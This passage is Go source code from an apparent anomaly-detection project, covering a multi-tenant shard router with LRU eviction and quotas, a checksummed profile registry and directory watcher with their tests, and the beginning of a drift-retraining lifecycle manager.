	Static map[string]*profile.Profile
	// Loader lazily resolves tenants absent from Static.
	Loader Loader
	// MaxActive bounds resident shards (default 64): loading one past the
	// cap evicts the least-recently-routed shard, closing its runtime.
	// Negative disables eviction.
	MaxActive int
	// MaxSessionsPerTenant caps concurrent sessions per shard; 0 means
	// unlimited. The cap is enforced at session creation: racing creates may
	// overshoot by at most the number of concurrent ingest connections,
	// never unboundedly.
	MaxSessionsPerTenant int
	// RuntimeOptions apply to every shard's runtime (workers, queue depth,
	// drop/shed policy, scorer mode, sink, decision log, ...).
	RuntimeOptions []runtime.Option
	// PerTenant overrides or extends RuntimeOptions for specific tenants —
	// the per-tenant tuning seam (a hostile tenant gets a shallow queue and
	// ShedByRisk; a critical one gets more workers). Applied after
	// RuntimeOptions.
	PerTenant map[string][]runtime.Option
	// OnEvict, when non-nil, observes each eviction with the closed shard's
	// final stats — the hook an operator uses to persist or log a tenant's
	// parting state.
	OnEvict func(id string, final runtime.Stats)
	// Logger receives structured router events (loads, evictions, quota
	// rejections); nil disables them.
	Logger *slog.Logger
}

// Shard is one resident tenant: its runtime plus the router's bookkeeping.
type Shard struct {
	id string
	rt *runtime.Runtime

	// touched is the shard's LRU stamp: the router's logical clock value of
	// the last route that hit it. Stored with a plain atomic on every route.
	touched atomic.Uint64
}

// ID returns the tenant id the shard serves.
func (sh *Shard) ID() string { return sh.id }

// Runtime exposes the shard's underlying detection runtime (stats, swap,
// decisions). The runtime's lifetime is owned by the router: do not Close it
// directly.
func (sh *Shard) Runtime() *runtime.Runtime { return sh.rt }

// Router routes sessions to per-tenant profile shards. Create with
// NewRouter, feed via Session/Observe, stop with Close.
type Router struct {
	cfg   Config
	clock atomic.Uint64 // LRU stamp source; Add(1) per route

	mu     sync.RWMutex // guards shards map and closed flag
	shards map[string]*Shard
	closed bool

	// loadMu serialises the slow path — profile load, shard construction,
	// eviction — so concurrent first-calls to one tenant build one shard and
	// evictions never race each other. Never held while routing to a
	// resident shard.
	loadMu sync.Mutex

	// Router-level counters (shard churn and refusals; per-call counters
	// live in each shard's runtime).
	loads     atomic.Uint64
	evictions atomic.Uint64
	unknown   atomic.Uint64
	quota     atomic.Uint64
}

// NewRouter builds a router over the configured tenant universe. At least
// one of Static and Loader must be set.
func NewRouter(cfg Config) (*Router, error) {
	if len(cfg.Static) == 0 && cfg.Loader == nil {
		return nil, errors.New("tenant: config needs Static profiles or a Loader")
	}
	if cfg.MaxActive == 0 {
		cfg.MaxActive = 64
	}
	return &Router{cfg: cfg, shards: make(map[string]*Shard)}, nil
}

// Shard returns the resident shard for tenant id, materialising it (and
// possibly evicting another) if needed. The resident path is allocation-free.
func (r *Router) Shard(id string) (*Shard, error) {
	r.mu.RLock()
	sh := r.shards[id]
	closed := r.closed
	r.mu.RUnlock()
	if sh != nil {
		sh.touched.Store(r.clock.Add(1))
		return sh, nil
	}
	if closed {
		return nil, ErrClosed
	}
	return r.loadShard(id)
}

// loadShard is the routing slow path: resolve the profile, build the shard's
// runtime, publish it, and evict past MaxActive.
func (r *Router) loadShard(id string) (*Shard, error) {
	r.loadMu.Lock()
	defer r.loadMu.Unlock()
	// Another loader may have won the race while we waited.
	r.mu.RLock()
	sh := r.shards[id]
	closed := r.closed
	r.mu.RUnlock()
	if sh != nil {
		sh.touched.Store(r.clock.Add(1))
		return sh, nil
	}
	if closed {
		return nil, ErrClosed
	}
	p, err := r.resolve(id)
	if err != nil {
		return nil, err
	}
	opts := make([]runtime.Option, 0, len(r.cfg.RuntimeOptions)+1)
	opts = append(opts, r.cfg.RuntimeOptions...)
	opts = append(opts, r.cfg.PerTenant[id]...)
	sh = &Shard{id: id, rt: runtime.New(p, opts...)}
	sh.touched.Store(r.clock.Add(1))

	var victim *Shard
	r.mu.Lock()
	if r.closed {
		r.mu.Unlock()
		sh.rt.Close()
		return nil, ErrClosed
	}
	r.shards[id] = sh
	if r.cfg.MaxActive > 0 && len(r.shards) > r.cfg.MaxActive {
		victim = r.coldest(sh)
		if victim != nil {
			delete(r.shards, victim.id)
		}
	}
	r.mu.Unlock()

	r.loads.Add(1)
	if l := r.cfg.Logger; l != nil {
		l.Info("tenant shard loaded", "tenant", id, "resident", r.ActiveTenants())
	}
	if victim != nil {
		r.evict(victim)
	}
	return sh, nil
}

// resolve finds the profile for a tenant: static map first, then the loader.
func (r *Router) resolve(id string) (*profile.Profile, error) {
	if p := r.cfg.Static[id]; p != nil {
		return p, nil
	}
	if r.cfg.Loader == nil {
		r.unknown.Add(1)
		return nil, fmt.Errorf("%w: %q", ErrUnknownTenant, id)
	}
	p, err := r.cfg.Loader.LoadTenant(id)
	if err != nil {
		r.unknown.Add(1)
		return nil, fmt.Errorf("%w: %q: %v", ErrUnknownTenant, id, err)
	}
	return p, nil
}

// coldest returns the shard with the smallest LRU stamp, never the one just
// inserted. Called under r.mu.
func (r *Router) coldest(except *Shard) *Shard {
	var victim *Shard
	var min uint64
	for _, sh := range r.shards {
		if sh == except {
			continue
		}
		if t := sh.touched.Load(); victim == nil || t < min {
			victim, min = sh, t
		}
	}
	return victim
}

// evict closes a deregistered shard's runtime (flushing its sessions) and
// reports its final stats. Runs under loadMu, off the resident routing path.
func (r *Router) evict(victim *Shard) {
	victim.rt.Close()
	r.evictions.Add(1)
	final := victim.rt.Stats()
	if l := r.cfg.Logger; l != nil {
		l.Info("tenant shard evicted", "tenant", victim.id,
			"calls", final.Calls, "alerts", final.AlertTotal())
	}
	if r.cfg.OnEvict != nil {
		r.cfg.OnEvict(victim.id, final)
	}
}

// Session returns the session registered under (tenant, session), creating
// it if the tenant's quota allows. The existing-session path is
// allocation-free.
func (r *Router) Session(tenant, session string) (*runtime.Session, error) {
	sh, err := r.Shard(tenant)
	if err != nil {
		return nil, err
	}
	return r.shardSession(sh, session)
}

// shardSession resolves a session on an already-routed shard, enforcing the
// per-tenant quota.
func (r *Router) shardSession(sh *Shard, session string) (*runtime.Session, error) {
	if q := r.cfg.MaxSessionsPerTenant; q > 0 {
		if s, ok := sh.rt.LookupSession(session); ok {
			return s, nil
		}
		if sh.rt.ActiveSessions() >= int64(q) {
			r.quota.Add(1)
			if l := r.cfg.Logger; l != nil {
				l.Warn("tenant session refused by quota", "tenant", sh.id, "session", session, "quota", q)
			}
			return nil, fmt.Errorf("%w: tenant %q at %d sessions", ErrTenantQuota, sh.id, q)
		}
	}
	return sh.rt.Session(session), nil
}

// Observe routes one batch of calls to (tenant, session) — the ingest
// front door's sink. A single call avoids the batch path's copy.
func (r *Router) Observe(tenant, session string, calls []collector.Call) error {
	s, err := r.Session(tenant, session)
	if err != nil {
		return err
	}
	if len(calls) == 1 {
		return s.Observe(calls[0])
	}
	return s.ObserveBatch(calls)
}

// ObserveTraced routes one observe event that carries wire-level trace
// context — the ingest server's preferred entry point (it satisfies
// ingest.TraceSink). The router stamps the tenant onto the context, opens
// the decision trace on the shard's runtime (a no-op returning nil when the
// shard's tracing is off), records the routing stage as a span, and hands
// the trace to the session, which owns it from then on. Routing failures
// (unknown tenant, quota, closed router) happen before the trace opens, so
// nothing leaks.
func (r *Router) ObserveTraced(tc trace.Context, tenant, session string, calls []collector.Call) error {
	routeStart := time.Now()
	sh, err := r.Shard(tenant)
	if err != nil {
		return err
	}
	s, err := r.shardSession(sh, session)
	if err != nil {
		return err
	}
	tc.Tenant = tenant
	ta := sh.rt.BeginTrace(tc, session, "ingest")
	if ta == nil && len(calls) == 1 {
		// Untraced single calls keep the copy-free fast path.
		return s.Observe(calls[0])
	}
	if ta != nil {
		ta.Event(trace.RootSpan, "route", routeStart,
			trace.String("tenant", tenant),
			trace.Int("resident_shards", int64(r.ActiveTenants())))
	}
	return s.ObserveBatchTraced(context.Background(), ta, calls)
}

// Traces returns up to limit retained decision traces from tenant's shard,
// newest first (nil when the tenant is not resident or its tracing is off).
func (r *Router) Traces(tenant string, limit int) []trace.Trace {
	r.mu.RLock()
	sh := r.shards[tenant]
	r.mu.RUnlock()
	if sh == nil {
		return nil
	}
	return sh.rt.Traces(limit)
}

// TraceByID searches every resident shard for the trace with the given ID —
// the forensic lookup behind /traces/{id} and adprom explain, where the
// operator holds a trace ID but not necessarily the tenant it belongs to.
func (r *Router) TraceByID(id string) (trace.Trace, bool) {
	r.mu.RLock()
	shards := make([]*Shard, 0, len(r.shards))
	for _, sh := range r.shards {
		shards = append(shards, sh)
	}
	r.mu.RUnlock()
	for _, sh := range shards {
		if tr, ok := sh.rt.TraceByID(id); ok {
			return tr, true
		}
	}
	return trace.Trace{}, false
}

// Flush judges (tenant, session)'s pending short window and resets it for
// the next trace.
func (r *Router) Flush(tenant, session string) error {
	s, err := r.Session(tenant, session)
	if err != nil {
		return err
	}
	_, err = s.Flush()
	return err
}

// CloseSession flushes and deregisters one session, releasing its quota
// slot.
func (r *Router) CloseSession(tenant, session string) error {
	sh, err := r.Shard(tenant)
	if err != nil {
		return err
	}
	s, ok := sh.rt.LookupSession(session)
	if !ok {
		return nil
	}
	_, err = s.Close()
	return err
}

// SwapProfile hot-swaps tenant's serving profile with zero downtime,
// returning the shard's new generation number. A non-resident tenant is
// materialised first (the swap is evidence it is in use).
func (r *Router) SwapProfile(tenant string, next *profile.Profile) (uint64, error) {
	sh, err := r.Shard(tenant)
	if err != nil {
		return 0, err
	}
	return sh.rt.SwapProfile(next)
}

// Tenants returns the resident tenant ids, sorted.
func (r *Router) Tenants() []string {
	r.mu.RLock()
	out := make([]string, 0, len(r.shards))
	for id := range r.shards {
		out = append(out, id)
	}
	r.mu.RUnlock()
	sort.Strings(out)
	return out
}

// ActiveTenants reports how many shards are resident.
func (r *Router) ActiveTenants() int {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return len(r.shards)
}

// Stats is one tenant's point-in-time snapshot: the shard's full runtime
// stats under the tenant id that owns them.
type Stats struct {
	// Tenant is the shard's tenant id.
	Tenant string
	// Runtime is the shard's runtime snapshot (calls, alerts, queues,
	// latency percentiles, shed, generation, ...).
	Runtime runtime.Stats
}

func (s Stats) String() string {
	return fmt.Sprintf("tenant=%s %s", s.Tenant, s.Runtime)
}

// TenantStats snapshots one resident tenant (false when not resident).
func (r *Router) TenantStats(tenant string) (Stats, bool) {
	r.mu.RLock()
	sh := r.shards[tenant]
	r.mu.RUnlock()
	if sh == nil {
		return Stats{}, false
	}
	return Stats{Tenant: tenant, Runtime: sh.rt.Stats()}, true
}

// StatsAll snapshots every resident tenant, sorted by tenant id.
func (r *Router) StatsAll() []Stats {
	r.mu.RLock()
	shards := make([]*Shard, 0, len(r.shards))
	for _, sh := range r.shards {
		shards = append(shards, sh)
	}
	r.mu.RUnlock()
	sort.Slice(shards, func(i, j int) bool { return shards[i].id < shards[j].id })
	out := make([]Stats, len(shards))
	for i, sh := range shards {
		out[i] = Stats{Tenant: sh.id, Runtime: sh.rt.Stats()}
	}
	return out
}

// RouterStats is the router-level snapshot: shard churn and refusals.
type RouterStats struct {
	// ActiveTenants is the resident shard count; Loads counts shards
	// materialised; Evictions counts shards closed by the LRU cap.
	ActiveTenants int
	Loads         uint64
	Evictions     uint64
	// UnknownTenant counts routes refused for lack of a profile;
	// QuotaRejected counts sessions refused by MaxSessionsPerTenant.
	UnknownTenant uint64
	QuotaRejected uint64
}

// Stats snapshots the router-level counters.
func (r *Router) Stats() RouterStats {
	return RouterStats{
		ActiveTenants: r.ActiveTenants(),
		Loads:         r.loads.Load(),
		Evictions:     r.evictions.Load(),
		UnknownTenant: r.unknown.Load(),
		QuotaRejected: r.quota.Load(),
	}
}

// Decisions returns up to limit recent provenance records from tenant's
// shard, newest first (nil when the tenant is not resident).
func (r *Router) Decisions(tenant string, limit int) []obsv.Decision {
	r.mu.RLock()
	sh := r.shards[tenant]
	r.mu.RUnlock()
	if sh == nil {
		return nil
	}
	return sh.rt.Decisions(limit)
}

// Ready reports nil while the router accepts routes — the fleet /readyz
// probe. Individual tenants' readiness is their shards' concern; a router
// with zero resident shards is still ready (tenants load lazily).
func (r *Router) Ready() error {
	r.mu.RLock()
	defer r.mu.RUnlock()
	if r.closed {
		return ErrClosed
	}
	return nil
}

// Close drains and closes every resident shard and refuses further routes.
// Idempotent.
func (r *Router) Close() error {
	r.loadMu.Lock()
	defer r.loadMu.Unlock()
	r.mu.Lock()
	if r.closed {
		r.mu.Unlock()
		return nil
	}
	r.closed = true
	shards := make([]*Shard, 0, len(r.shards))
	for _, sh := range r.shards {
		shards = append(shards, sh)
	}
	r.shards = make(map[string]*Shard)
	r.mu.Unlock()
	var first error
	for _, sh := range shards {
		if err := sh.rt.Close(); err != nil && first == nil {
			first = err
		}
	}
	return first
}
