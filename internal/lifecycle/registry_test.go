package lifecycle

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/dataset"
	"adprom/internal/hmm"
	"adprom/internal/profile"
)

var appHOnce struct {
	sync.Once
	p      *profile.Profile
	traces []collector.Trace
	err    error
}

func trainAppH(t *testing.T) (*profile.Profile, []collector.Trace) {
	t.Helper()
	appHOnce.Do(func() {
		app := dataset.AppH()
		traces, err := app.CollectTraces(collector.ModeADPROM)
		if err != nil {
			appHOnce.err = err
			return
		}
		p, _, err := core.Train(app.Prog, traces, profile.Options{
			Train: hmm.TrainOptions{MaxIters: 6},
		})
		appHOnce.p, appHOnce.traces, appHOnce.err = p, traces, err
	})
	if appHOnce.err != nil {
		t.Fatal(appHOnce.err)
	}
	return appHOnce.p, appHOnce.traces
}

func TestRingEvictsOldestFirst(t *testing.T) {
	r := NewTraceRing(3)
	mk := func(label string) collector.Trace { return collector.Trace{{Label: label}} }
	for _, l := range []string{"a", "b", "c"} {
		if r.Add(mk(l)) {
			t.Fatalf("eviction before the ring was full (adding %s)", l)
		}
	}
	if !r.Add(mk("d")) {
		t.Fatal("full ring did not evict")
	}
	got := r.Snapshot()
	want := []string{"b", "c", "d"}
	if len(got) != len(want) || r.Len() != 3 {
		t.Fatalf("snapshot has %d traces (len %d), want 3", len(got), r.Len())
	}
	for i, tr := range got {
		if tr[0].Label != want[i] {
			t.Fatalf("snapshot[%d] = %s, want %s (oldest-first order)", i, tr[0].Label, want[i])
		}
	}
}

func TestRegistryRoundTrip(t *testing.T) {
	p, _ := trainAppH(t)
	dir := t.TempDir()
	reg, err := OpenRegistry(dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := reg.Latest(); ok {
		t.Fatal("fresh registry has a latest entry")
	}
	e1, err := reg.Add(p, 1, "initial")
	if err != nil {
		t.Fatal(err)
	}
	e2, err := reg.Add(p, 2, "drift-retrain")
	if err != nil {
		t.Fatal(err)
	}
	// Gob encodings are not canonical, so the two entries' checksums need not
	// match each other — each must only match its own file, which LoadEntry
	// verifies below.
	if e1.Generation != 1 || e2.Generation != 2 || e1.Checksum == "" || e2.Checksum == "" {
		t.Fatalf("entries: %+v / %+v", e1, e2)
	}
	if e1.Program != p.Program {
		t.Fatalf("entry program %q, want %q", e1.Program, p.Program)
	}

	// Reopen: the manifest survives the process, entries ascend, and the
	// persisted profile loads back with a matching checksum.
	reg2, err := OpenRegistry(dir)
	if err != nil {
		t.Fatal(err)
	}
	ents := reg2.Entries()
	if len(ents) != 2 || ents[0].Generation != 1 || ents[1].Generation != 2 {
		t.Fatalf("reopened entries: %+v", ents)
	}
	latest, ok := reg2.Latest()
	if !ok || latest.Generation != 2 {
		t.Fatalf("latest: %+v, %v", latest, ok)
	}
	for _, e := range ents {
		loaded, err := reg2.LoadEntry(e)
		if err != nil {
			t.Fatalf("generation %d: %v", e.Generation, err)
		}
		if loaded.Program != p.Program || loaded.Threshold != p.Threshold {
			t.Fatalf("generation %d does not match the persisted profile", e.Generation)
		}
	}
}

func TestRegistryLoadEntryDetectsTampering(t *testing.T) {
	p, _ := trainAppH(t)
	dir := t.TempDir()
	reg, err := OpenRegistry(dir)
	if err != nil {
		t.Fatal(err)
	}
	e, err := reg.Add(p, 1, "initial")
	if err != nil {
		t.Fatal(err)
	}
	// Swap the entry's file for a different profile: the payload is valid,
	// but the manifest checksum no longer matches. (Profiles are not
	// copyable, so clone via a save/load round trip.)
	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		t.Fatal(err)
	}
	other, err := profile.Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	other.Threshold = p.Threshold - 1
	f, err := os.Create(filepath.Join(dir, e.File))
	if err != nil {
		t.Fatal(err)
	}
	if err := other.Save(f); err != nil {
		t.Fatal(err)
	}
	f.Close()
	if _, err := reg.LoadEntry(e); !errors.Is(err, profile.ErrCorrupt) {
		t.Fatalf("LoadEntry on a swapped file: %v, want ErrCorrupt", err)
	}
}

func TestWatchDirReportsNewProfiles(t *testing.T) {
	p, _ := trainAppH(t)
	dir := t.TempDir()

	// A file present before the watch starts is "seen" and must not fire.
	writeProfile := func(name string) string {
		t.Helper()
		path := filepath.Join(dir, name)
		f, err := os.Create(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := p.Save(f); err != nil {
			t.Fatal(err)
		}
		f.Close()
		return path
	}
	pre := writeProfile("pre-existing" + ProfileSuffix)

	if path, lp, err := LatestProfile(dir); err != nil || path != pre || lp.Program != p.Program {
		t.Fatalf("LatestProfile: %s, %v (want %s)", path, err, pre)
	}

	type hit struct {
		path string
		ok   bool
	}
	hits := make(chan hit, 8)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan struct{})
	go func() {
		defer close(done)
		WatchDir(ctx, dir, 10*time.Millisecond, func(path string, lp *profile.Profile, err error) {
			hits <- hit{path: path, ok: err == nil && lp != nil}
		})
	}()
	// Give the watcher time to finish its initial already-seen scan; files
	// written before that scan would be treated as pre-existing.
	time.Sleep(200 * time.Millisecond)

	fresh := writeProfile("gen-000002" + ProfileSuffix)
	// Junk with the right suffix must be reported as an error, not a panic.
	junk := filepath.Join(dir, "junk"+ProfileSuffix)
	if err := os.WriteFile(junk, []byte("not a profile"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Dot-prefixed temp files are invisible to the watcher.
	if err := os.WriteFile(filepath.Join(dir, ".tmp-123"+ProfileSuffix), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}

	got := map[string]bool{}
	deadline := time.After(5 * time.Second)
	for len(got) < 2 {
		select {
		case h := <-hits:
			if h.path == pre {
				t.Fatal("pre-existing file reported by the watcher")
			}
			got[h.path] = h.ok
		case <-deadline:
			t.Fatalf("watcher reported %d/2 files", len(got))
		}
	}
	if !got[fresh] {
		t.Errorf("fresh profile not loaded: %+v", got)
	}
	if ok, seen := got[junk]; !seen || ok {
		t.Errorf("junk file: seen=%v ok=%v, want seen with error", seen, ok)
	}
	cancel()
	<-done
}
