package lifecycle

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"time"

	"adprom/internal/profile"
)

// manifestName is the registry's index file inside its directory.
const manifestName = "manifest.json"

// ProfileSuffix is the file extension registry profile files (and the files
// WatchDir reacts to) carry.
const ProfileSuffix = ".adprof"

// Entry describes one published profile generation.
type Entry struct {
	// Generation is the runtime generation number the profile was (or is to
	// be) served as.
	Generation uint64 `json:"generation"`
	// CreatedAt is when the entry was registered (UTC).
	CreatedAt time.Time `json:"created_at"`
	// Source records provenance: "initial", "drift-retrain", "operator", ...
	Source string `json:"source"`
	// Checksum is the hex CRC-32 recorded in the saved file's header (gob
	// encodings are not canonical, so it fingerprints the file, not the
	// logical profile); LoadEntry re-verifies it.
	Checksum string `json:"checksum"`
	// File is the profile file's name inside the registry directory.
	File string `json:"file"`
	// Program is the monitored program the profile models.
	Program string `json:"program"`
}

// Registry is a versioned on-disk store of profile generations: one
// ProfileSuffix file per generation plus a manifest.json index. All writes
// are atomic (temp file + rename), so a crash mid-publish never leaves a
// half-written profile or manifest behind. Safe for concurrent use within
// one process; it does not arbitrate between processes.
type Registry struct {
	dir string

	mu      sync.Mutex
	entries []Entry
}

// OpenRegistry opens (creating if needed) the registry rooted at dir and
// loads its manifest.
func OpenRegistry(dir string) (*Registry, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("lifecycle: opening registry: %w", err)
	}
	r := &Registry{dir: dir}
	data, err := os.ReadFile(filepath.Join(dir, manifestName))
	switch {
	case os.IsNotExist(err):
		return r, nil
	case err != nil:
		return nil, fmt.Errorf("lifecycle: reading manifest: %w", err)
	}
	if err := json.Unmarshal(data, &r.entries); err != nil {
		return nil, fmt.Errorf("lifecycle: parsing manifest: %w", err)
	}
	sort.Slice(r.entries, func(i, j int) bool {
		return r.entries[i].Generation < r.entries[j].Generation
	})
	return r, nil
}

// Dir returns the registry's root directory.
func (r *Registry) Dir() string { return r.dir }

// Entries returns a copy of the manifest, generation-ascending.
func (r *Registry) Entries() []Entry {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]Entry(nil), r.entries...)
}

// Latest returns the highest-generation entry, if any.
func (r *Registry) Latest() (Entry, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.entries) == 0 {
		return Entry{}, false
	}
	return r.entries[len(r.entries)-1], true
}

// Add persists p as generation gen: the profile is encoded once, its header
// checksum becomes the entry's fingerprint, and the file and manifest are
// each written atomically.
func (r *Registry) Add(p *profile.Profile, gen uint64, source string) (Entry, error) {
	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		return Entry{}, fmt.Errorf("lifecycle: encoding generation %d: %w", gen, err)
	}
	info, _, err := profile.Inspect(bytes.NewReader(buf.Bytes()))
	if err != nil {
		return Entry{}, fmt.Errorf("lifecycle: fingerprinting generation %d: %w", gen, err)
	}
	sum := info.Checksum
	name := fmt.Sprintf("gen-%06d%s", gen, ProfileSuffix)
	if err := r.writeAtomic(name, func(f *os.File) error {
		_, werr := f.Write(buf.Bytes())
		return werr
	}); err != nil {
		return Entry{}, err
	}
	e := Entry{
		Generation: gen,
		CreatedAt:  time.Now().UTC(),
		Source:     source,
		Checksum:   sum,
		File:       name,
		Program:    p.Program,
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.entries = append(r.entries, e)
	sort.Slice(r.entries, func(i, j int) bool {
		return r.entries[i].Generation < r.entries[j].Generation
	})
	data, err := json.MarshalIndent(r.entries, "", "  ")
	if err != nil {
		return Entry{}, fmt.Errorf("lifecycle: encoding manifest: %w", err)
	}
	if err := r.writeAtomic(manifestName, func(f *os.File) error {
		_, werr := f.Write(data)
		return werr
	}); err != nil {
		return Entry{}, err
	}
	return e, nil
}

// LoadEntry loads an entry's profile file and verifies its checksum against
// the manifest; a mismatch surfaces as profile.ErrCorrupt.
func (r *Registry) LoadEntry(e Entry) (*profile.Profile, error) {
	f, err := os.Open(filepath.Join(r.dir, e.File))
	if err != nil {
		return nil, fmt.Errorf("lifecycle: opening generation %d: %w", e.Generation, err)
	}
	defer f.Close()
	info, p, err := profile.Inspect(f)
	if err != nil {
		return nil, fmt.Errorf("lifecycle: loading generation %d: %w", e.Generation, err)
	}
	if info.Checksum != e.Checksum {
		return nil, fmt.Errorf("lifecycle: generation %d: manifest checksum %s, file records %s: %w",
			e.Generation, e.Checksum, info.Checksum, profile.ErrCorrupt)
	}
	return p, nil
}

// writeAtomic writes a file in the registry directory via temp + rename.
func (r *Registry) writeAtomic(name string, fill func(*os.File) error) error {
	tmp, err := os.CreateTemp(r.dir, "."+name+".tmp-*")
	if err != nil {
		return fmt.Errorf("lifecycle: creating temp for %s: %w", name, err)
	}
	defer os.Remove(tmp.Name()) // no-op after a successful rename
	if err := fill(tmp); err != nil {
		tmp.Close()
		return fmt.Errorf("lifecycle: writing %s: %w", name, err)
	}
	if err := tmp.Close(); err != nil {
		return fmt.Errorf("lifecycle: closing %s: %w", name, err)
	}
	if err := os.Rename(tmp.Name(), filepath.Join(r.dir, name)); err != nil {
		return fmt.Errorf("lifecycle: publishing %s: %w", name, err)
	}
	return nil
}
