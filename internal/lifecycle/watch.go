package lifecycle

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"time"

	"adprom/internal/profile"
)

// LatestProfile loads the most recently modified profile file (ProfileSuffix,
// not dot-prefixed) in dir, returning its path. os.ErrNotExist is returned
// when the directory holds no profile file.
func LatestProfile(dir string) (string, *profile.Profile, error) {
	names, err := scanProfiles(dir)
	if err != nil {
		return "", nil, err
	}
	if len(names) == 0 {
		return "", nil, fmt.Errorf("lifecycle: no %s file in %s: %w", ProfileSuffix, dir, os.ErrNotExist)
	}
	path := names[len(names)-1].path
	f, err := os.Open(path)
	if err != nil {
		return "", nil, err
	}
	defer f.Close()
	p, err := profile.Load(f)
	if err != nil {
		return path, nil, err
	}
	return path, p, nil
}

// WatchFunc receives each profile file WatchDir noticed: either the loaded
// profile, or the load error (exactly one of p and err is non-nil).
type WatchFunc func(path string, p *profile.Profile, err error)

// WatchDir polls dir every interval for new or modified profile files
// (ProfileSuffix, not dot-prefixed — registry temp files are skipped) and
// hands each one to fn in modification order. Files already present when
// WatchDir starts are treated as seen and not reported — load the starting
// profile with LatestProfile. Runs until ctx is done; returns ctx.Err().
func WatchDir(ctx context.Context, dir string, interval time.Duration, fn WatchFunc) error {
	if interval <= 0 {
		interval = 2 * time.Second
	}
	seen := map[string]fileStamp{}
	if names, err := scanProfiles(dir); err == nil {
		for _, c := range names {
			seen[c.path] = c.stamp
		}
	}
	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-ticker.C:
		}
		names, err := scanProfiles(dir)
		if err != nil {
			continue // transient: directory may be mid-recreation
		}
		for _, c := range names {
			if prev, ok := seen[c.path]; ok && prev == c.stamp {
				continue
			}
			seen[c.path] = c.stamp
			f, err := os.Open(c.path)
			if err != nil {
				fn(c.path, nil, err)
				continue
			}
			p, err := profile.Load(f)
			f.Close()
			if err != nil {
				fn(c.path, nil, err)
				continue
			}
			fn(c.path, p, nil)
		}
	}
}

type fileStamp struct {
	mod  time.Time
	size int64
}

type candidate struct {
	path  string
	stamp fileStamp
}

// scanProfiles lists dir's profile files sorted by modification time
// (oldest first; ties broken by name for determinism).
func scanProfiles(dir string) ([]candidate, error) {
	ents, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var out []candidate
	for _, e := range ents {
		name := e.Name()
		if e.IsDir() || name[0] == '.' || filepath.Ext(name) != ProfileSuffix {
			continue
		}
		info, err := e.Info()
		if err != nil {
			continue
		}
		out = append(out, candidate{
			path:  filepath.Join(dir, name),
			stamp: fileStamp{mod: info.ModTime(), size: info.Size()},
		})
	}
	sort.Slice(out, func(i, j int) bool {
		if !out[i].stamp.mod.Equal(out[j].stamp.mod) {
			return out[i].stamp.mod.Before(out[j].stamp.mod)
		}
		return out[i].path < out[j].path
	})
	return out, nil
}
