package lifecycle

import (
	"context"
	"log/slog"
	"sync"
	"time"

	"adprom/internal/collector"
	"adprom/internal/metrics"
	"adprom/internal/profile"
	"adprom/internal/runtime"
)

// Config tunes a Manager. The zero value applies the defaults noted per
// field; Registry and Logf are optional.
type Config struct {
	// Drift configures the judgement-stream drift detector.
	Drift DriftConfig
	// Retrain configures the background warm-started retraining pass.
	Retrain profile.RetrainOptions
	// RingCapacity bounds the judged-Normal retraining corpus (default 256
	// traces; the oldest is evicted when full).
	RingCapacity int
	// MinTraces is the corpus size below which a confirmed drift verdict
	// defers retraining instead of training on too little data (default 8).
	MinTraces int
	// Cooldown is the minimum gap between retraining runs; a verdict arriving
	// earlier waits out the remainder. Zero means no cooldown.
	Cooldown time.Duration
	// Registry, when set, persists every retrained generation.
	Registry *Registry
	// Source tags registry entries (default "drift-retrain").
	Source string
	// Logf, when set, receives one line per lifecycle event (drift verdicts,
	// retrain outcomes, swaps).
	Logf func(format string, args ...any)
	// Logger, when set, receives the same lifecycle events as structured
	// slog records (drift verdict, retrain start/finish, swap) — the
	// counterpart of the runtime's WithLogger option. Logf and Logger
	// compose; either may be nil.
	Logger *slog.Logger
}

// Manager runs the profile lifecycle against one runtime.Runtime: its
// Observe method (installed as the runtime's JudgeObserver) feeds the drift
// detector from the live judgement stream; a confirmed verdict wakes the
// manager goroutine, which retrains in the background from the RecordTrace
// corpus — never blocking detection workers — and hot-swaps the refreshed
// profile via Runtime.SwapProfile.
//
// Wire it with runtime.WithJudgeObserver(m.Observe) and
// runtime.WithAttach(m.Bind), then Start it. All methods are safe for
// concurrent use.
type Manager struct {
	cfg  Config
	det  *Detector
	ring *TraceRing
	lc   metrics.Lifecycle

	mu      sync.Mutex
	rt      *runtime.Runtime
	last    time.Time // end of the previous retraining run
	pending bool      // a drift verdict deferred on a thin corpus

	trigger   chan struct{}
	ctx       context.Context
	cancel    context.CancelFunc
	wg        sync.WaitGroup
	startOnce sync.Once
	stopOnce  sync.Once
}

// NewManager builds a manager; see Config for the defaults.
func NewManager(cfg Config) *Manager {
	if cfg.RingCapacity <= 0 {
		cfg.RingCapacity = 256
	}
	if cfg.MinTraces <= 0 {
		cfg.MinTraces = 8
	}
	if cfg.Source == "" {
		cfg.Source = "drift-retrain"
	}
	ctx, cancel := context.WithCancel(context.Background())
	return &Manager{
		cfg:     cfg,
		det:     NewDetector(cfg.Drift),
		ring:    NewTraceRing(cfg.RingCapacity),
		trigger: make(chan struct{}, 1),
		ctx:     ctx,
		cancel:  cancel,
	}
}

// Bind attaches the manager to the runtime it manages — pass it to
// runtime.WithAttach, or call it directly before Start.
func (m *Manager) Bind(rt *runtime.Runtime) {
	m.mu.Lock()
	m.rt = rt
	m.mu.Unlock()
}

// boundGeneration is the bound runtime's serving profile generation, 0
// before Bind — the correlation key on every lifecycle slog event.
func (m *Manager) boundGeneration() uint64 {
	m.mu.Lock()
	rt := m.rt
